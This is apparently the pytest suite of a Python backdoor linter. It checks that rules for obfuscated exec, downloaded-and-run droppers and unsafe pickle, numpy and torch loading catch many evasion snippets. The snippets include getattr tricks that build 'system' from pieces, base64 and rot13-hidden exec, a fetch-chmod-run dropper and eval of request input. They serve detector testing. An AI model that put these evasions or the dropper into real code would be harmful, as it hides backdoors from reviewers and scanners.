"""Evasions the site tests of BDL501-506 and BDL504 (checkers/triggers/exec.py, deserialization.py)
must let through: each case is reported through the engine (text stage and site test on), and the
site test says yes on it. Cases: a sink reached through a `self` attribute, a getattr name from a
default, a class attribute or an implicit concatenation, a literal module name that is dangerous,
an importer or getattr under another name, a blob or loader option from a constant."""
import ast
import sys
from pathlib import Path

import pytest
from backdoor_lint.checkers.base import ModuleContext
from backdoor_lint.checkers.registry import python_checkers
from backdoor_lint.checkers.tree import parse_module
from backdoor_lint.checkers.trigger_facts import python_facts
from backdoor_lint.checkers.triggers.deserialization import UnsafeDeserialization
from backdoor_lint.checkers.triggers.exec import ObfuscatedExec

from backdoor_lint.config import Config
from backdoor_lint.engine import check_bytes, scan_bytes

sys.path.insert(0, str(Path(__file__).parent))
from site_test_support import in_tree, package  # noqa: E402

BLOB = "TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQsIGNvbnNlY3RldHVyIGFkaXBpc2NpbmcgZWxpdCwgc2VkIGRvIGVpdXNtb2Q="

CASES = [
    # getattr's name from a parameter's default, a class attribute, an implicit concatenation
    (ObfuscatedExec, 'import os\ndef f(cmd, how="sys" + "tem"):\n    return getattr(os, how)(cmd)\n', "BDL503", 3),
    (ObfuscatedExec, 'import os\nclass Runner:\n    HOW = "sys" + "tem"\n    def go(self, cmd):\n'
                     '        return getattr(os, self.HOW)(cmd)\n', "BDL503", 5),
    (ObfuscatedExec, 'import os\ngetattr(os, "sys" "tem")("id")\n', "BDL503", 2),
    # getattr and __import__ under other names
    (ObfuscatedExec, 'import os\nfetch = getattr\nNAME = "sys" + "tem"\nfetch(os, NAME)("id")\n', "BDL503", 4),
    (ObfuscatedExec, 'load_module = __import__\nm = load_module("o" "s")\n', "BDL503", 2),
    # a literal dangerous module name written as pieces: not a plain string
    (ObfuscatedExec, 'import importlib\nm = importlib.import_module("sub" "process")\n', "BDL503", 2),
    # an executor reached through a helper's result and through a `with` binding
    (ObfuscatedExec, 'import base64\nrunner = exec\ndef go(p):\n    runner(base64.b64decode(p))\n', "BDL501", 4),
    # a blob held by a constant passed through a default
    (ObfuscatedExec, f'import base64\nB = "{BLOB}"\ndef f(b=B):\n    return base64.b64decode(b)\n', "BDL506", 4),
    # a dropper whose runner is imported under another name
    (ObfuscatedExec, 'from os import chmod as make_runnable, system as sh\nimport requests\ndef f(url):\n'
                     '    r = requests.get(url)\n    with open("/tmp/.x", "wb") as fh:\n        fh.write(r.content)\n'
                     '    make_runnable("/tmp/.x", 0o755)\n    sh("/tmp/.x")\n', "BDL502", 5),
    # deserialization: through a `self` attribute, getattr with a literal name, a class attribute
    (UnsafeDeserialization, 'import pickle\nclass Store:\n    def __init__(self):\n        self.decode = pickle.loads\n'
                            '    def get(self, request):\n        return self.decode(request.body)\n', "BDL504", 6),
    (UnsafeDeserialization, 'import pickle\nclass Store:\n    decode = pickle.loads\n    def get(self, blob):\n'
                            '        return self.decode(blob)\n', "BDL504", 5),
    (UnsafeDeserialization, 'import pickle\nreader = getattr(pickle, "loads")\ndef f(blob):\n    return reader(blob)\n',
     "BDL504", 4),
    (UnsafeDeserialization, 'import pickle\ndef f(fh):\n    u = pickle.Unpickler\n    return u(fh).load()\n',
     "BDL504", 4),
    # a module imported at run time by a name held in a constant, a chain of calls
    (UnsafeDeserialization, 'from importlib import import_module\nCODEC = "pic" + "kle"\ndef f(blob):\n'
                            '    return import_module(CODEC).loads(blob)\n', "BDL504", 4),
    (UnsafeDeserialization, 'def f(blob):\n    return getattr(__import__("pickle"), "loads")(blob)\n', "BDL504", 2),
    (UnsafeDeserialization, 'import pickle\ndef f(fh):\n    return getattr(pickle, "Unpick" + "ler")(fh).load()\n',
     "BDL504", 3),
    # the data as a keyword, numpy's allow_pickle in a mapping or as the second argument
    (UnsafeDeserialization, 'import pickle\ndef f(b):\n    return pickle.loads(data=b)\n', "BDL504", 3),
    (UnsafeDeserialization, 'import numpy as np\ndef f(p):\n    return np.load(p, **{"allow_pickle": True})\n',
     "BDL504", 3),
    (UnsafeDeserialization, 'import numpy as np\ndef f(p):\n    return np.load(p, True)\n', "BDL504", 3),
    (UnsafeDeserialization, 'import torch\ndef f(p):\n    return torch.load(p, weights_only=False)\n', "BDL504", 3),
    # the values the evaluator may find (sites_exec.possible_values): a dangerous literal in one
    # branch beside a value it cannot compute, `+=`, a cycle unrolled once, an f-string, "".join,
    # `%` and .format, a bool beside a string, a class attribute through `self`
    (ObfuscatedExec, 'import os\ndef f(flag, cmd):\n    how = pick(flag)\n    if flag:\n        how = "sys" + "tem"\n'
                     '    return getattr(os, how)(cmd)\n', "BDL503", 6),
    (ObfuscatedExec, 'import os\nn = "sys"\nn += "tem"\ngetattr(os, n)("id")\n', "BDL503", 4),
    (ObfuscatedExec, 'import os\nA = "sys"\ngetattr(os, f"{A}tem" + "")("id")\n', "BDL503", 3),
    (ObfuscatedExec, 'import os\ngetattr(os, "".join(["sys", "tem"]))("id")\n', "BDL503", 2),
    (ObfuscatedExec, 'import os\nT = "sys%s"\ngetattr(os, T % ("tem",))("id")\n', "BDL503", 3),
    (ObfuscatedExec, 'import os\nT = "{}tem"\ngetattr(os, T.format("sys"))("id")\n', "BDL503", 3),
    (ObfuscatedExec, 'import os\nclass R:\n    how = False\n    def arm(self):\n        self.how = "po" + "pen"\n'
                     '    def go(self, cmd):\n        return getattr(os, self.how)(cmd)\n', "BDL503", 7),
    (ObfuscatedExec, 'import os\ndef name():\n    return "sys" + "tem"\ndef go(cmd):\n    return getattr(os, name())(cmd)\n',
     "BDL503", 5),
    # getattr's result called under another name (not named after getattr itself)
    (ObfuscatedExec, 'import os\ndef go(cmd):\n    run = getattr(os, "sys" + "tem")\n    return run(cmd)\n', "BDL503", 3),
    # a module name from a literal in one branch: its root (pickle) is the file's
    (UnsafeDeserialization, 'from importlib import import_module\ndef f(blob, fast):\n    codec = pick(fast)\n'
                            '    if not fast:\n        codec = "pic" + "kle"\n    return import_module(codec).loads(blob)\n',
     "BDL504", 6),
    # a builtins holder: `builtins` bound as a parameter in one function, read as the module in
    # another; `builtins.` names what getattr gets; a parameter passed the module
    (ObfuscatedExec, 'def keep(builtins=None):\n    return builtins\ndef run(src):\n'
                     '    return getattr(builtins, "ex" + "ec")(src)\n', "BDL503", 4),
    (UnsafeDeserialization, 'import builtins\ndef f(blob):\n    return getattr(builtins, "__imp" + "ort__")("pickle").loads(blob)\n',
     "BDL504", 3),
    (ObfuscatedExec, 'import base64\nimport builtins\ndef run(ns, src):\n    return ns.get("exec")(base64.b64decode(src))\n'
                     'run(builtins, "cHJpbnQoMSk=")\n', "BDL501", 4),
    (ObfuscatedExec, 'import base64\ndef run(src):\n    table = __builtins__\n    table["ex" + "ec"](base64.b64decode(src))\n',
     "BDL501", 4),
]


# Runs of data the dataflow follows (exec.py `_may_carry_run_data`): fetched from the network through
# a function's return, a parameter, a `with` binding; request input through `self`, a routed
# parameter; decoded data put into a list; code hidden by a reversal, a computed decoder, chr, a
# `.decode(codec)`.
RUN_DATA_CASES = [
    'import requests\ndef fetch(u):\n    return requests.get(u).text\ndef update(u):\n    exec(fetch(u))\n',
    'import urllib.request as ur\ndef run(code):\n    exec(code)\ndef update(u):\n    run(ur.urlopen(u).read())\n',
    'import pickle, urllib.request\ndef load(u):\n    with urllib.request.urlopen(u) as r:\n        data = r.read()\n'
    '    return pickle.loads(data)\n',
    'class Debug:\n    def post(self, request):\n        self.snippet = request.POST["code"]\n        return self.run()\n'
    '    def run(self):\n        return eval(self.snippet)\n',
    'from fastapi import FastAPI\napp = FastAPI()\n@app.get("/calc")\ndef calc(expr: str):\n    return eval(expr)\n',
    'import base64\nparts = []\nparts.append(base64.b64decode(PIECE))\nexec(b"".join(parts))\n',
    'S = ")1(tnirp"\ndef go():\n    exec(S[::-1])\n',
    'import codecs\nS = "cevag(1)"\ndef go():\n    exec(getattr(codecs, "de" + "code")(S, "rot13"))\n',
    'CODES = [112, 114, 105, 110, 116]\ndef go():\n    exec("".join(chr(c) for c in CODES) + "(1)")\n',
    'def go(payload: bytes):\n    exec(payload.decode("rot13"))\n',
]


@pytest.mark.parametrize("source", RUN_DATA_CASES)
def test_a_run_of_data_the_dataflow_follows_is_a_site(source):
    data = source.encode()
    assert ObfuscatedExec.has_site(python_facts(data, ast.parse(data)))
    rule = next(checker for checker in python_checkers() if issubclass(checker, ObfuscatedExec))
    context = ModuleContext("app/module.py", source, parse_module(source))
    context.run([rule(context)])
    reported = {(f.code, f.line) for f in context.findings if f.code in ("BDL501", "BDL502")}
    assert reported, "the rule itself does not report this case"
    assert reported <= {(f.code, f.line) for f in scan_bytes("app/module.py", data, Config()).findings}


def test_run_data_from_a_module_of_the_tree(tmp_path):
    """A run of what a function of another file returns: the dataflow looks into that file when
    its text shows an origin (ORIGIN_TEXT), and so does the site test; a file without one makes
    no site (nor do a module name it holds as a plain literal)."""
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "__init__.py").write_text("")
    (package / "net.py").write_text('import requests\ndef fetch():\n    return requests.get("https://p.example/x").text\n')
    (package / "local.py").write_text('ENGINE = "pkg.engines.default"\ndef snippet():\n    return "print(1)"\n')
    path = str(package / "run.py")

    def facts_of(text: str):
        data = text.encode()
        return python_facts(data, ast.parse(data), path, str(tmp_path))

    fetched = "from pkg.net import fetch\ndef go():\n    exec(fetch())\n"
    assert ObfuscatedExec.has_site(facts_of(fetched))
    found = {(f.code, f.line) for f in check_bytes(path, fetched.encode(), Config(root=tmp_path), "pkg/run.py").findings}
    assert ("BDL502", 3) in found, sorted(found)
    local = ("from importlib import import_module\nfrom pkg.local import ENGINE, snippet\ndef go():\n"
             "    exec(snippet())\n    return import_module(ENGINE)\n")
    assert not ObfuscatedExec.has_site(facts_of(local))
    (package / "local.py").write_text('import base64\nENGINE = "pkg.engines.default"\ndef snippet():\n'
                                      '    return base64.b64decode("cHJpbnQoMSk=")\n')
    assert ObfuscatedExec.has_site(facts_of(local))
    found = {(f.code, f.line) for f in check_bytes(path, local.encode(), Config(root=tmp_path), "pkg/run.py").findings}
    assert ("BDL501", 4) in found, sorted(found)



def test_a_name_imported_from_a_module_with_an_origin_is_judged_by_its_value_there(tmp_path):
    """Dataflow._imported asks the other module's own dataflow about the name's values and what a
    function of that name returns (not about that module's imports): so does the site test.
    Django's case: `settings` comes from a module that reads os.environ, but its value there is an
    instance of a class of that module, which carries nothing the rule reports."""
    package(tmp_path, {
        "conf": "import os\nclass LazySettings:\n    def __getattr__(self, name):\n"
                "        return os.environ.get(name)\nsettings = LazySettings()\n",
        "net": 'from urllib.request import urlopen\n_raw = urlopen("https://p.example/x").read()\nCODE = _raw\n'
               'def _load(url):\n    return urlopen(url).read()\ndef get():\n    return _load("https://p.example/y")\n'})
    clean = "from importlib import import_module\nfrom pkg.conf import settings\ndef engine():\n" \
            "    return import_module(settings.SESSION_ENGINE)\n"
    assert in_tree(tmp_path, clean, ObfuscatedExec) == (False, set())
    # through an assignment chain and through a helper function of that module
    site, found = in_tree(tmp_path, "from pkg.net import CODE\ndef go():\n    exec(CODE)\n", ObfuscatedExec)
    assert site and ("BDL502", 3) in found, sorted(found)
    site, found = in_tree(tmp_path, "from pkg.net import get as fetch_it\ndef go():\n    exec(fetch_it())\n",
                          ObfuscatedExec)
    assert site and ("BDL502", 3) in found, sorted(found)
    # a module `ast` cannot parse may hold anything
    (tmp_path / "pkg" / "conf.py").write_text("import os\nsettings = os.environ[\n")
    assert in_tree(tmp_path, clean, ObfuscatedExec)[0]

@pytest.mark.parametrize("trigger,source,code,line", CASES, ids=[f"{t.__name__}-{i}" for i, (t, *_) in enumerate(CASES)])
def test_the_site_test_lets_the_evasion_through_and_the_engine_reports_it(trigger, source, code, line):
    data = source.encode()
    assert trigger.has_site(python_facts(data, ast.parse(data)))
    found = {(f.code, f.line) for f in scan_bytes("app/module.py", data, Config()).findings}
    assert (code, line) in found, sorted(found)


# getattr's name built where no byte pattern and no folded line of trigger_facts.py shows it (a
# name assigned twice, an f-string with a placeholder, a branch, a parameter's default): the rule,
# run without its trigger, reports them, the site test says yes, and so does the whole engine (the
# text stage lets every file that names getattr through to the site test).
RULE_CASES = [
    (ObfuscatedExec, 'import os\nn = "sys"\nn = n + "tem"\ngetattr(os, n)("id")\n', "BDL503", 4),
    (ObfuscatedExec, 'import os\nA = "sys"\ngetattr(os, f"{A}tem")("id")\n', "BDL503", 3),
    (ObfuscatedExec, 'import os\ndef f(flag, cmd):\n    how = pick(flag)\n    if flag:\n        how = "system"\n'
                     '    return getattr(os, how)(cmd)\n', "BDL503", 6),
    (ObfuscatedExec, 'import os\ndef f(cmd, how="sys" "tem"):\n    return getattr(os, how)(cmd)\n', "BDL503", 3),
    (ObfuscatedExec, 'import os\ng = getattr\nn = "sys"\nn += "tem"\ng(os, n)("id")\n', "BDL503", 5),
]


@pytest.mark.parametrize("trigger,source,code,line", RULE_CASES,
                         ids=[f"{t.__name__}-{i}" for i, (t, *_) in enumerate(RULE_CASES)])
def test_the_site_test_lets_through_what_the_rule_reports(trigger, source, code, line):
    data = source.encode()
    assert trigger.has_site(python_facts(data, ast.parse(data)))
    rule = next(checker for checker in python_checkers() if issubclass(checker, trigger))
    context = ModuleContext("app/module.py", source, parse_module(source))
    context.run([rule(context)])
    assert (code, line) in {(f.code, f.line) for f in context.findings}
    assert (code, line) in {(f.code, f.line) for f in scan_bytes("app/module.py", data, Config()).findings}


NO_SITE = [
    # what Django does: a literal module imported, a literal concatenation that reaches no executor,
    # getattr of a parameter's name, pickle.dumps only, a literal unpickled
    (ObfuscatedExec, 'from importlib import import_module\nm = import_module("django.conf.global_settings")\n'
                     'LABEL = "a" + "b"\n'),
    (ObfuscatedExec, 'def value(obj, field_name):\n    return getattr(obj, field_name)\n'
                     'def cached(obj):\n    return obj.__dict__["x"]\n'),
    (UnsafeDeserialization, 'import pickle\ndef dump(obj):\n    return pickle.dumps(obj, pickle.HIGHEST_PROTOCOL)\n'),
    (UnsafeDeserialization, 'import pickle\nEMPTY = pickle.loads(b"\\x80\\x04]\\x94.")\n'),
    # getattr of names the evaluator computes nothing for (a call's result, a loop variable, an
    # attribute of one, a name derived from a parameter), or only harmless literals
    (ObfuscatedExec, 'def values(obj, fields, prefix):\n    for field in fields:\n        name = field.get_attname()\n'
                     '        yield getattr(obj, name), getattr(obj, field.name), getattr(obj, prefix.lower())\n'
                     'def label(obj, short=False):\n    attr = "short_name"\n    if not short:\n        attr = "verbose_name"\n'
                     '    return getattr(obj, attr)\n'),
    # a parameter called builtins (Django's template engine) is no builtins holder
    (ObfuscatedExec, 'class Parser:\n    def __init__(self, tokens, builtins=None):\n        if builtins is None:\n'
                     '            builtins = []\n        self.tags = {}\n        for builtin in builtins:\n'
                     '            self.tags.update(builtin.tags)\n'),
    # a decoder of a value the evaluator cannot compute, or of a short literal
    (ObfuscatedExec, 'import binascii\ndef read(wkb):\n    if isinstance(wkb, str):\n        wkb = binascii.unhexlify(wkb)\n'
                     '    return wkb\nMAGIC = binascii.unhexlify("cafe")\n'),
    # run-time imports and runs of what no origin reaches: a module name from a parameter (Django's
    # app loading), a script read from a file
    (ObfuscatedExec, 'from importlib import import_module\ndef load(name):\n    return import_module(name)\n'
                     'def setup(apps):\n    for app in apps:\n        load("%s.models" % app.name)\n'),
    (ObfuscatedExec, 'def run_script(path):\n    with open(path) as fh:\n        code = compile(fh.read(), path, "exec")\n'
                     '    exec(code, {"__name__": "__main__"})\n'),
    # a module imported by a name the evaluator cannot know names nothing the rule looks for
    (UnsafeDeserialization, 'from importlib import import_module\ndef load(name, data):\n'
                            '    return import_module(name).loads(data)\n'),
]


def test_a_module_constant_imported_from_the_tree_is_followed(tmp_path):
    """getattr's name and a run-time import's module held by constants of another file of the
    tree (consteval._imported): the site test locates them as the evaluator does."""
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "__init__.py").write_text("")
    (package / "names.py").write_text('HOW = "sys" + "tem"\nCODEC = "pickle"\n')
    (package / "run.py").write_text("import os\nfrom importlib import import_module\nfrom pkg.names import HOW, CODEC\n"
                                    "from pkg import names\ndef go(cmd):\n    return getattr(os, HOW)(cmd)\n"
                                    "def load(blob):\n    return import_module(names.CODEC).loads(blob)\n")
    data = (package / "run.py").read_bytes()
    facts = python_facts(data, ast.parse(data), str(package / "run.py"), str(tmp_path))
    assert ObfuscatedExec.has_site(facts) and UnsafeDeserialization.has_site(facts)
    without_import = b"import os\nfrom pkg.names import HOW\ndef go(cmd):\n    return getattr(os, HOW)(cmd)\n"
    assert ObfuscatedExec.has_site(python_facts(without_import, ast.parse(without_import), str(package / "run.py"),
                                                str(tmp_path)))
    found = {(f.code, f.line) for f in check_bytes(str(package / "run.py"), data, Config(root=tmp_path),
                                                   "pkg/run.py").findings}
    assert {("BDL503", 6), ("BDL504", 8)} <= found, sorted(found)
    # the same constants, harmless: neither rule has a site
    (package / "names.py").write_text('HOW = "upper"\nCODEC = "json"\n')
    facts = python_facts(data, ast.parse(data), str(package / "run.py"), str(tmp_path))
    assert not UnsafeDeserialization.has_site(facts)
    assert not ObfuscatedExec.has_site(python_facts(without_import, ast.parse(without_import), str(package / "run.py"),
                                                    str(tmp_path)))


@pytest.mark.parametrize("trigger,source", NO_SITE, ids=[f"{t.__name__}-{i}" for i, (t, _) in enumerate(NO_SITE)])
def test_the_site_test_rules_out_what_the_rule_cannot_report(trigger, source):
    data = source.encode()
    assert not trigger.has_site(python_facts(data, ast.parse(data)))
    assert not scan_bytes("app/module.py", data, Config()).findings
